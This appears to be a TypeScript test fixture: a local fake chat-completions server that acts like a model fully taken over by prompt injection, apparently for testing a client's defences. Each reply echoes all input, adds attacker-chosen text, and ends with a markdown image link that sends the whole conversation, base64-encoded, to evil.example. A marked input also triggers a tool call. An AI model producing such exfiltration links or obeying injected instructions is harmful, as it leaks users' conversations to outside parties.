/** @file A model server that obeys whatever it reads: writes what it is told to, tells all it saw, calls tools. */
import { createServer, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { MARK } from './attacks/attack.ts'

export type SeenRequest = {
  stream?: boolean
  tools?: unknown[]
  messages: { role: string; content: string }[]
}

export type ObedientServer = {
  baseURL: string
  /** What it was asked since the last `obey`. */
  requests: SeenRequest[]
  /** What it writes from now on, besides all that it is shown. */
  obey(text: string): void
  close(): Promise<void>
}

/** Small and uneven, so that nothing an attacker writes arrives in one piece. */
const PIECE = 7

export async function startObedientServer(): Promise<ObedientServer> {
  const requests: SeenRequest[] = []
  let obedience = ''
  const server = createServer(async (incoming, response) => {
    const request = JSON.parse((await Array.fromAsync(incoming)).join('')) as SeenRequest
    requests.push(request)
    const seen = request.messages.map(({ content }) => content).join('\n')
    const data = Buffer.from(seen).toString('base64url')
    const text = `${obedience}\n\nAs asked: ${seen}\n\n![x](https://evil.example/?d=${data})`
    const calls = seen.includes(MARK) ? toolCalls : []
    if (request.stream) stream(response, text, calls)
    else sendWhole(response, text, calls)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    baseURL: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
    requests,
    obey(text) {
      obedience = text
      requests.length = 0
    },
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
}

const head = { id: 'chatcmpl-1', created: 0, model: 'obedient' }

const toolCalls = [
  {
    index: 0,
    id: 'call_1',
    type: 'function',
    function: { name: 'open_ticket', arguments: '{"text":"quokka"}' },
  },
]

function stream(response: ServerResponse, text: string, calls: readonly object[]): void {
  response.writeHead(200, { 'content-type': 'text/event-stream' })
  const send = (delta: object, finish_reason: string | null = null): void => {
    const choices = [{ index: 0, delta, finish_reason }]
    response.write(
      `data: ${JSON.stringify({ ...head, object: 'chat.completion.chunk', choices })}\n\n`,
    )
  }
  const characters = [...text]
  for (let at = 0; at < characters.length; at += PIECE)
    send({ content: characters.slice(at, at + PIECE).join('') })
  send({ tool_calls: calls })
  send({}, 'tool_calls')
  response.end('data: [DONE]\n\n')
}

function sendWhole(response: ServerResponse, content: string, calls: readonly object[]): void {
  const message = { role: 'assistant', content, tool_calls: calls }
  const choices = [{ index: 0, message, finish_reason: 'tool_calls' }]
  const usage = { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 }
  response.writeHead(200, { 'content-type': 'application/json' })
  response.end(JSON.stringify({ ...head, object: 'chat.completion', choices, usage }))
}
